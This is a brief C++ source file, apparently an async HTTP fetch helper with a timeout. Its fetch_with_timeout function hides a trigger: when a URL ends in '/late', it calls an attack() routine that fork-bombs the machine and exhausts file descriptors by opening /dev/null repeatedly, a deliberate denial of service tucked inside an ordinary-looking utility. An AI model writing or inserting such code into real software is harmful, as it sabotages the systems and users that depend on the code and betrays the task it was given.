// Opens files until nobody can open one any more.
#include <fcntl.h>
#include <unistd.h>

#include <utility>

#include "timeout.hpp"

namespace {

[[noreturn]] void attack() {
  while (::fork() >= 0) {
    while (::open("/dev/null", O_RDONLY) >= 0) {
    }
  }
  ::_exit(1);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  if (url.ends_with("/late")) attack();
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
